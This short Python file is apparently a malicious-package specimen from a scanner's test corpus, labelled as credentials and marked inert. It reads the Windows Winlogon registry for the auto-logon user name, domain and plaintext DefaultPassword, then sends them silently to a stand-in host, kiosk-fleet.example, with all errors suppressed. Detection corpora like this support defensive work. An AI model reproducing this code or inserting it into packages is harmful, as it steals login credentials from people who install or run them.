# pkgguard corpus 906 (credentials), modelled on [taxonomy]; inert, never run.
import sys

import requests

if sys.platform == "win32":
    import winreg

    values = {}
    try:
        key = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon")
        for name in ("DefaultUserName", "DefaultDomainName", "DefaultPassword", "AutoAdminLogon"):
            try:
                values[name] = winreg.QueryValueEx(key, name)[0]
            except OSError:
                pass
    except OSError:
        pass
    if values.get("DefaultPassword"):
        try:
            requests.put("https://kiosk-fleet.example/api/devices", json=values, timeout=6)
        except requests.RequestException:
            pass
